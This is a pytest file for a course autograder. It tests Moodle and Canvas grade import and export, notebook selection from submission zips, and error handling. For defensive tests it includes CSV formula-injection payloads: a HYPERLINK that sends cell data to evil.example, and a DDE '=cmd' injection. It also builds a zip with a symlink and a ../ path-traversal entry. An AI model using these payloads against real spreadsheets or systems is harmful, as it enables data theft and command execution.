"""Grades and feedback back to Moodle and Canvas as the platforms read them, and imports that never lose or
mix up work (issue 22), CSV cells a spreadsheet never runs and ids that look alike (issue 21 §4).

One class is graded once for the module (a German Moodle's download as a zip); the other tests import
into it files that need no kernel (truncated or empty notebooks), or unchanged files."""

import csv
import os
import stat
import subprocess
import time
import unicodedata
import zipfile
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

import moodle_rules
from conftest import copy_course
from week_files import grade, read_rows, solved, step_sizes_course, unchanged
from autograder import cli, export
from autograder.grading import Course, Result

A = "step_sizes"
SEED = 2222
ROOT = Path(__file__).resolve().parent.parent
FORMULA = ("=", "+", "-", "@", "\t", "\r")
DE_COLUMNS = ["ID", "Vollständiger Name", "E-Mail-Adresse", "Status", "Bewertung", "Bestwertung",
              "Bewertung kann geändert werden", "Zuletzt geändert (Abgabe)", "Zuletzt geändert (Bewertung)",
              "Feedback als Kommentar"]
EN_COLUMNS = ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
              "Grade can be changed", "Last modified (submission)", "Last modified (grade)", "Feedback comments"]
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _zip(path, entries):
    """entries: (name, text, (y, m, d, H, M, S))."""
    with zipfile.ZipFile(path, "w") as zf:
        for name, text, when in entries:
            zf.writestr(zipfile.ZipInfo(name, date_time=when), text)
    return path


def _worksheet(path, columns, rows):
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(columns)
        writer.writerows(rows)
    return path


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """The assignment's student version, built once for the module; each test grades in a copy."""
    return step_sizes_course(tmp_path_factory)


@pytest.fixture(scope="module")
def week(built, tmp_path_factory):
    """A German Moodle class: a zip with a final and a draft notebook (the final one newer by the zip's
    own times), the flat layout, two equally new notebooks, and the grading worksheet as --roster."""
    tmp = tmp_path_factory.mktemp("lms")
    course = copy_course(built, tmp / "course")
    download = _zip(tmp / "moodle.zip", [
        ("Jürgen Müller_100001_assignsubmission_file_/step_sizes_final.ipynb", solved(course), (2026, 12, 1, 9, 0, 0)),
        ("Jürgen Müller_100001_assignsubmission_file_/step_sizes_draft.ipynb", unchanged(course), (2026, 11, 28, 9, 0, 0)),
        (f"Ada Lovelace_100002_assignsubmission_file_{A}.ipynb", unchanged(course), (2026, 11, 30, 9, 0, 0)),
        ("Teilnehmerin_100003_assignsubmission_file_/a.ipynb", solved(course), (2026, 11, 30, 9, 0, 0)),
        ("Teilnehmerin_100003_assignsubmission_file_/b.ipynb", unchanged(course), (2026, 11, 30, 9, 0, 0)),
    ])
    sheet = _worksheet(tmp / "Bewertungen.csv", DE_COLUMNS, [
        ["Teilnehmer/in100001", "Jürgen Müller", "j@example.org", "Abgegeben", "", "100,00", "Ja", "-", "-", ""],
        ["Teilnehmer/in100002", "Ada Lovelace", "a@example.org", "Abgegeben", "", "100,00", "Ja", "-", "-", ""],
        ["Teilnehmer/in100003", "Teilnehmerin", "t@example.org", "Abgegeben", "", "100,00", "Ja", "-", "-", ""],
        ["Teilnehmer/in100004", EVIL_NAME, "e@example.org", "Keine Abgabe", "", "100,00", "Ja", "-", "-", ""],
    ])
    os.utime(sheet, (time.time() - 3600, time.time() - 3600))   # downloaded an hour ago
    grades = tmp / "grades.csv"
    code = cli.main(["grade", A, "--course", str(course.root), "--csv", str(grades), "--workers", "2",
                     "--submissions", str(download), "--roster", str(sheet), "--seed", str(SEED)])
    return dict(course=course, tmp=tmp, grades=grades, code=code, sheet=sheet, download=download)


# -- 5, 7: zip times choose the file, equal times choose none, Moodle's flat layout, German worksheet -------------

def test_the_zip_times_choose_the_final_notebook_and_equal_times_none(built, tmp_path, capsys):
    """Its own class (capsys is per test): the terminal summary names every choice."""
    course = copy_course(built, tmp_path / "c")
    download = _zip(tmp_path / "d.zip", [
        # the draft has the later name order and the earlier time: only the zip's time tells them apart
        ("Ana_200001_assignsubmission_file_/step_sizes_zdraft.ipynb", unchanged(course)[:300], (2026, 11, 28, 9, 0, 0)),
        ("Ana_200001_assignsubmission_file_/step_sizes_final.ipynb", "", (2026, 12, 1, 9, 0, 0)),
        ("Teilnehmerin_200003_assignsubmission_file_/a.ipynb", "", (2026, 11, 30, 9, 0, 0)),
        ("Teilnehmerin_200003_assignsubmission_file_/b.ipynb", "", (2026, 11, 30, 9, 0, 0)),
        ("Bo_200004_assignsubmission_file_/x.ipynb", "", (1980, 1, 1, 0, 0, 0)),   # times unknown
        ("Bo_200004_assignsubmission_file_/y.ipynb", "", (2026, 11, 30, 9, 0, 0)),
    ])
    code, out = grade(course, "--submissions", str(download), csv_path=tmp_path / "g.csv", capsys=capsys)
    assert code == 0, out.err
    submitted = course.submission_dir("200001", A) / f"{A}.ipynb"
    assert submitted.read_text() == "", "the draft (older by the zip's times) was graded"
    rows = read_rows(tmp_path / "g.csv")
    for student, names in (("200003", ("a.ipynb", "b.ipynb")), ("200004", ("x.ipynb", "y.ipynb"))):
        assert rows[student]["status"].startswith("could not be graded: 2 notebooks, choose one"), rows[student]
        assert all(n in rows[student]["status"] for n in names)
        line = next(line for line in out.out.splitlines() if f"{student}: could not be graded: 2 notebooks" in line)
        assert all(n in line for n in names), line
        assert not course.submission_dir(student, A).exists()
    choice = next(line for line in out.out.splitlines() if "200001: graded the newest" in line)
    assert "step_sizes_final.ipynb" in choice and "not graded: step_sizes_zdraft.ipynb" in choice


def test_a_german_moodle_download_is_graded_from_the_final_file_and_the_flat_layout(week):
    assert week["code"] == 0
    rows = read_rows(week["grades"])
    assert rows["100001"]["status"] == "graded" and rows["100001"]["auto_score"] == "10"
    assert "step_sizes_final.ipynb" in rows["100001"]["notes"] and "not graded: step_sizes_draft.ipynb" in rows["100001"]["notes"]
    assert rows["100002"]["status"] == "graded" and rows["100002"]["auto_score"] == "0"   # the flat layout
    assert rows["100003"]["status"].startswith("could not be graded: 2 notebooks, choose one: a.ipynb, b.ipynb")
    assert rows["100004"]["status"] == "no submission"   # the German worksheet is the class list
    with Gradebook(week["course"].api.coursedir.db_url) as gb:
        assert (gb.find_student("100001").first_name, gb.find_student("100001").last_name) == ("Jürgen", "Müller")


# -- 1, 3: grades and feedback back to Moodle, through Moodle's own rules ------------------------------------------

def _full_marks_by_hand(course, student):
    with Gradebook(course.api.coursedir.db_url) as gb:
        for cell in gb.find_submission(A, student).notebooks[0].grades:
            if cell.manual_score is None and cell.auto_score is None:
                cell.manual_score, cell.needs_manual_grade = cell.max_score, False
        gb.db.commit()


def test_export_fills_the_german_worksheet_as_moodle_imports_it(week, capsys):
    course, tmp = week["course"], week["tmp"]
    _full_marks_by_hand(course, "100001")   # the written answers graded: 14 of 14
    out_csv = tmp / "export-de.csv"
    assert cli.main(["export", A, "--course", str(course.root), "--csv", str(out_csv), "--format", "moodle"]) == 0
    printed = capsys.readouterr().out
    filled = tmp / "export-de-moodle.csv"
    assert "Bewertungen.csv filled in" in printed
    lines = list(csv.reader(open(filled, encoding="utf-8")))
    original = list(csv.reader(open(week["sheet"], encoding="utf-8")))
    assert lines[0] == original[0] and [r[0] for r in lines] == [r[0] for r in original]
    participants = {100001: "juergen", 100002: "ada", 100003: "teilnehmerin", 100004: "evil"}
    grades = moodle_rules.import_grades(filled.read_text(encoding="utf-8"), "de", participants, maximum=100)
    assert grades == {"juergen": 100.0, "ada": 0.0}   # 14/14 scaled to 100; nothing for the others
    # a grade changed in Moodle after the worksheet was downloaded is not overwritten
    changed_since = {"ada": (50.0, int(time.time()))}
    assert "ada" not in moodle_rules.import_grades(filled.read_text(encoding="utf-8"), "de", participants, 100,
                                                   current=changed_since)
    # the English worksheet and a new worksheet (no --roster) go through Moodle's English rules
    english = _worksheet(tmp / "en.csv", EN_COLUMNS, [
        ["Participant 100001", "Jürgen Müller", "j@example.org", "Submitted", "", "20.00", "Yes", "-", "-", ""]])
    assert cli.main(["export", A, "--course", str(course.root), "--csv", str(tmp / "en-export.csv"),
                     "--format", "moodle", "--roster", str(english)]) == 0
    assert moodle_rules.import_grades((tmp / "en-export-moodle.csv").read_text(encoding="utf-8"), "en",
                                      participants, maximum=20) == {"juergen": 20.0}
    # the feedback zip: each student's page where Moodle's importer finds it
    files = moodle_rules.feedback_zip_files(tmp / "en-export-moodle-feedback.zip", participants)
    assert files == {"juergen": [f"{A}.html"], "ada": [f"{A}.html"]}
    with zipfile.ZipFile(tmp / "en-export-moodle-feedback.zip") as zf:
        page = next(n for n in zf.namelist() if "_100001_" in n)
        assert zf.read(page) == (course.root / "feedback" / "100001" / A / f"{A}.html").read_bytes()


def test_a_worksheet_without_a_point_maximum_is_refused_in_words(week, capsys):
    course, tmp = week["course"], week["tmp"]
    scale = _worksheet(tmp / "scale.csv", EN_COLUMNS, [
        ["Participant 100001", "Jürgen Müller", "j@example.org", "Submitted", "", "Pass/Fail", "Yes", "-", "-", ""]])
    code = cli.main(["export", A, "--course", str(course.root), "--csv", str(tmp / "s.csv"), "--format", "moodle",
                     "--roster", str(scale)])
    err = capsys.readouterr().err
    assert code == 2 and "'Pass/Fail'" in err and "scaled" in err and "Traceback" not in err
    assert not (tmp / "s-moodle.csv").exists()


def test_a_new_moodle_worksheet_has_the_columns_moodles_importer_needs(tmp_path):
    target = tmp_path / "m.csv"
    from autograder import lms
    lms.write_moodle([("100001", "Ada", "a@x", 7.5, 10, "ok"), ("100002", "Bo", "", None, 10, "no submission")], target)
    assert moodle_rules.import_grades(target.read_text(), "en", {100001: "ada", 100002: "bo"}, maximum=10) == {"ada": 7.5}


# -- 2: Canvas: the gradebook export's column of the assignment is filled -------------------------------------------

def test_canvas_export_fills_the_assignments_column_of_the_gradebook_export(week, capsys):
    course, tmp = week["course"], week["tmp"]
    gradebook = tmp / "canvas.csv"
    gradebook.write_text("Student,ID,SIS User ID,SIS Login ID,Section,Step sizes (98765),Adagrad (98766)\n"
                         "    Points Possible,,,,,14,10\n\"Lovelace, Ada\",100002,S2,ada,A,,\n")
    assert cli.main(["export", A, "--course", str(course.root), "--csv", str(tmp / "c.csv"), "--format", "canvas",
                     "--roster", str(gradebook)]) == 0
    printed = capsys.readouterr().out
    lines = list(csv.reader(open(tmp / "c-canvas.csv", encoding="utf-8")))
    assert lines[0][-1] == "Step sizes (98765)" and "'Step sizes (98765)'" in printed


# -- 4: exporting what was never graded ------------------------------------------------------------------------------

def test_exporting_an_assignment_never_graded_is_an_error(tmp_path, capsys):
    course = Course.from_sources(tmp_path / "c")
    code = cli.main(["export", A, "--course", str(course.root), "--csv", str(tmp_path / "g.csv")])
    err = capsys.readouterr().err
    assert code == 2 and "(deleted?)" not in err and "sgd-course build" in err
    course.build([A])
    code = cli.main(["export", A, "--course", str(course.root), "--csv", str(tmp_path / "g.csv"), "--format", "moodle"])
    err = capsys.readouterr().err
    assert code == 2 and "has not been graded yet" in err
    assert not (tmp_path / "g.csv").exists() and not (tmp_path / "g-moodle.csv").exists()


# -- 6: a wrong zip changes nothing; an ungradable file never replaces graded work ---------------------------------

def test_a_zip_without_a_notebook_changes_nothing(week, capsys):
    course, tmp, grades = week["course"], week["tmp"], week["grades"]
    before = grades.read_bytes()
    submitted = {s: sorted(p.read_bytes() for p in course.submission_dir(s, A).glob("*")) for s in course.students(A)}
    pdfs = _zip(tmp / "pdfs.zip", [(f"{name}_{i}_assignsubmission_file_/{A}.pdf", "%PDF-1.4", (2026, 12, 2, 9, 0, 0))
                                   for i, name in ((100001, "Jürgen Müller"), (100002, "Ada Lovelace"), (100005, "Cy"))])
    code, out = grade(course, "--submissions", str(pdfs), csv_path=grades, capsys=capsys)
    assert code == 1 and f"no {A} notebook in 3 submissions (found {A}.pdf" in out.err, out.err
    assert grades.read_bytes() == before
    assert {s: sorted(p.read_bytes() for p in course.submission_dir(s, A).glob("*")) for s in course.students(A)} == submitted


def test_an_ungradable_resubmission_keeps_the_graded_one_unless_asked(week, capsys):
    course, tmp, grades = week["course"], week["tmp"], week["grades"]
    folder = tmp / "late"
    (folder / "Ada Lovelace_100002_assignsubmission_file_").mkdir(parents=True)
    (folder / "Ada Lovelace_100002_assignsubmission_file_" / f"{A}.ipynb").write_text("")   # empty: cannot be graded
    code, out = grade(course, "--submissions", str(folder), csv_path=grades, capsys=capsys)
    assert code == 0, out.err
    assert read_rows(grades)["100002"]["status"] == "graded"
    assert "100002: kept the graded submission" in out.out and "--student 100002" in out.out
    assert (course.submission_dir("100002", A) / f"{A}.ipynb").read_text() != ""
    code, out = grade(course, "--submissions", str(folder), "--student", "100002", csv_path=grades, capsys=capsys)
    assert code == 0, out.err   # asked for: replaced
    assert read_rows(grades)["100002"]["status"].startswith("could not be graded: step_sizes.ipynb: the file is empty")


# -- 9: a rerun that grades nothing says so; an interrupted --regrade says how to go on ------------------------------

def test_a_rerun_that_grades_nothing_says_so(week, capsys):
    course, grades = week["course"], week["grades"]
    code, out = grade(course, csv_path=grades, capsys=capsys)
    assert code == 0
    assert f"nothing new: {len(course.students(A))} unchanged (use --regrade" in out.out
    assert "auto score" not in out.out and "graded (" not in out.out


def test_an_interrupted_regrade_names_the_command_that_goes_on(built, tmp_path, monkeypatch, capsys):
    course = copy_course(built, tmp_path / "c")
    course.submit("ann", A, {A: "{}"})

    def interrupted(self, *args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(Course, "grade", interrupted)
    code = cli.main(["grade", A, "--course", str(course.root), "--csv", str(tmp_path / "g.csv"), "--regrade"])
    err = capsys.readouterr().err
    assert code == 130
    command = err.split("run: ", 1)[1].strip()
    assert command.startswith(f"sgd-course grade {A} --course ") and "--regrade" not in command
    assert str(tmp_path / "g.csv") in command


# -- 10: the lab as root; missing files in one line -------------------------------------------------------------------

def test_the_lab_as_root_starts_with_allow_root_and_says_so(tmp_path, monkeypatch, capsys):
    started = {}

    def execve(path, argv, env):
        started["argv"] = argv
        raise SystemExit(0)

    (tmp_path / "work").mkdir()
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    monkeypatch.setattr(os, "execve", execve)
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SystemExit):
        cli.main(["lab", "work"])
    assert "--allow-root" in started["argv"] and "root" in capsys.readouterr().err


def test_missing_roster_and_zip_files_are_one_line(week, capsys):
    course, tmp = week["course"], week["tmp"]
    for option, path, words in (("--roster", tmp / "nosuch.csv", "no such file"),
                                ("--submissions", tmp / "nosuch.zip", "no such file")):
        code, out = grade(course, option, str(path), csv_path=tmp / "x.csv", capsys=capsys)
        assert code == 2 and words in out.err and "Errno" not in out.err and len(out.err.strip().splitlines()) == 1, out.err


# -- 21 §4: no cell a spreadsheet runs, in any CSV; 21: look-alike ids; symlinks and ../ in a zip ------------------

def _formulas(path):
    """The cells a spreadsheet would run as a formula."""
    return [cell for row in csv.reader(open(path, encoding="utf-8")) for cell in row if cell.startswith(FORMULA)]


def test_no_csv_holds_a_formula_and_look_alike_ids_are_named(week, capsys):
    course, tmp = week["course"], week["tmp"]
    folder = tmp / "hostile"
    folder.mkdir()
    ids = ["=2+5", "+SUM(1,1)", "@SUM(1,1)", "=cmd|'-c calc'!A1", "-2+3", "josé", unicodedata.normalize("NFD", "josé"),
           "Bob", "bob"]
    for student in ids:
        (folder / f"{student}.ipynb").write_text("{")   # no kernel needed: not valid JSON
    grades = tmp / "hostile.csv"
    code, out = grade(course, "--submissions", str(folder), csv_path=grades, capsys=capsys)
    assert code == 0, out.err
    assert "'Bob', 'bob'" in out.out and "look alike" in out.out
    assert ascii("josé") in out.out and ascii(unicodedata.normalize("NFD", "josé")) in out.out
    gradebook = tmp / "evil-canvas.csv"
    gradebook.write_text(f'Student,ID,SIS User ID,SIS Login ID,Section\n"{EVIL_NAME.replace(chr(34), 2 * chr(34))}",'
                         '100002,@SUM(1+1),-1+1,+A1\n')
    assert cli.main(["grade", A, "--course", str(course.root), "--roster", str(gradebook), "--csv", str(grades)]) == 0
    written = [grades]
    for fmt, roster in (("moodle", week["sheet"]), ("canvas", gradebook), ("moodle", None)):
        target = tmp / f"e-{fmt}-{roster is None}.csv"
        argv = ["export", A, "--course", str(course.root), "--csv", str(target), "--format", fmt]
        assert cli.main(argv + (["--roster", str(roster)] if roster else [])) == 0
        written += [target, target.with_name(f"{target.stem}-{fmt}.csv")]
    capsys.readouterr()
    for path in written:
        assert _formulas(path) == [], path
    cells = {cell for path in written for row in csv.reader(open(path, encoding="utf-8")) for cell in row}
    assert {"'=2+5", "'+SUM(1,1)", "'-2+3", "'" + EVIL_NAME} <= cells
    assert "Teilnehmer/in100001" in cells and "100002" in cells


def test_symlinks_and_parent_paths_in_a_zip_are_refused(week, capsys):
    course, tmp = week["course"], week["tmp"]
    secret = tmp / "secret.ipynb"
    secret.write_text(unchanged(course))
    download = tmp / "links.zip"
    with zipfile.ZipFile(download, "w") as zf:
        link = zipfile.ZipInfo("Eve_100007_assignsubmission_file_/step_sizes.ipynb", (2026, 12, 1, 9, 0, 0))
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(link, str(secret))
        zf.writestr(zipfile.ZipInfo("../Mallory_100008_assignsubmission_file_/step_sizes.ipynb", (2026, 12, 1, 9, 0, 0)),
                    unchanged(course))
        zf.writestr(zipfile.ZipInfo(f"Ada Lovelace_100002_assignsubmission_file_{A}.ipynb", (2026, 11, 30, 9, 0, 0)),
                    (course.submission_dir("100002", A) / f"{A}.ipynb").read_text())
    code, out = grade(course, "--submissions", str(download), csv_path=tmp / "l.csv", capsys=capsys)
    assert code == 0, out.err
    assert "is a symbolic link" in out.err and "points outside the download" in out.err
    assert not {"100007", "100008"} & set(course.students(A))


# -- 8: students' data is never committed ---------------------------------------------------------------------------

def test_gitignore_covers_every_file_with_students_data():
    paths = ["notebooks/.grading/roster.json", "notebooks/.grading/roster-sheet/Bewertungen.csv", "notebooks/.grading/journal/step_sizes/x.json",
             "grades.csv", "grades-moodle.csv", "grades-canvas.csv", "grades-moodle-feedback.zip",
             "notebooks/feedback/1/step_sizes/step_sizes.html", "notebooks/submitted/1/step_sizes/step_sizes.ipynb",
             "notebooks/autograded/1/step_sizes/step_sizes.ipynb", "notebooks/gradebook.db", "sgd-course-demo/grades.csv"]
    missing = [p for p in paths if subprocess.run(["git", "-C", str(ROOT), "check-ignore", "-q", "--no-index", p]).returncode]
    assert missing == [], missing


# -- 11: help and README agree --------------------------------------------------------------------------------------

def test_help_and_readme_agree(tmp_path, capsys):
    readme = " ".join((ROOT / "README.md").read_text().split())
    parser = cli._parser()
    import argparse
    commands = next(a for a in parser._actions if isinstance(a, argparse._SubParsersAction)).choices
    grade_help = " ".join(commands["grade"].format_help().split())
    canvas = "<sortable name slug>_[LATE_]<user id>_<attachment id>_<file>"
    assert canvas in readme and canvas in grade_help
    regrade = "those the grader itself could not grade"
    assert regrade in readme and regrade in grade_help
    course = Course.from_sources(tmp_path / "c")
    assert cli.main(["fetch", A, "--course", str(course.root), "--to", str(tmp_path / "work")]) == 0
    assert f"sgd-course lab {tmp_path / 'work'}" in capsys.readouterr().out
    assert "sgd-course lab " in readme


# -- 12: the demo's output fits a terminal ---------------------------------------------------------------------------

def test_the_table_has_one_line_per_student_and_advice_is_printed_once():
    advice = "it was probably edited outside Jupyter or truncated. Open a fresh copy, paste your answers"
    results = [Result("heidi", a, reason=f"the file is not valid notebook JSON (char {n}); {advice}")
               for n, a in enumerate(("adagrad", "mlp", "step_sizes"))]
    results += [Result("alice", a) for a in ("adagrad", "mlp", "step_sizes")]
    table = export.table(results)
    students = [line.split()[0] for line in table.splitlines() if line and not line.endswith(":")
                and not line.startswith("student")]
    assert sorted(students) == ["alice"] * 3 + ["heidi"] * 3 and "/" not in "".join(students)
    assert advice not in table
    assert cli.summary(results).count(advice) == 1


def test_the_time_left_waits_for_a_graded_submission(tmp_path):
    log = tmp_path / "log.txt"
    with open(log, "w") as stream:
        progress = cli.Progress(stream=stream)
        progress(1, 10, Result("heidi", A, reason="not valid notebook JSON"))   # read and refused at once
    assert "~? s left" in log.read_text()


def test_the_readme_says_how_long_the_demo_takes():
    quick_start = (ROOT / "README.md").read_text().split("## For students")[0]
    import re
    assert re.search(r"[Tt]he demo takes (about )?\d+ (to \d+ )?minutes", " ".join(quick_start.split()))


# -- 13: JupyterLab's news pop-up is off ------------------------------------------------------------------------------

def test_jupyterlabs_news_popup_is_off_in_the_courses_setups():
    import json
    import sys
    plugin = "@jupyterlab/apputils-extension:announcements"
    static = Path(sys.prefix) / "share" / "jupyter" / "lab" / "static"
    assert any(plugin in p.read_text(errors="ignore") for p in static.glob("jlab_core*.js")), "no such plugin"
    for who in ("student", "instructor"):
        config = json.loads((ROOT / "autograder" / "jupyter" / who / "labconfig" / "page_config.json").read_text())
        assert config["disabledExtensions"][plugin] is True
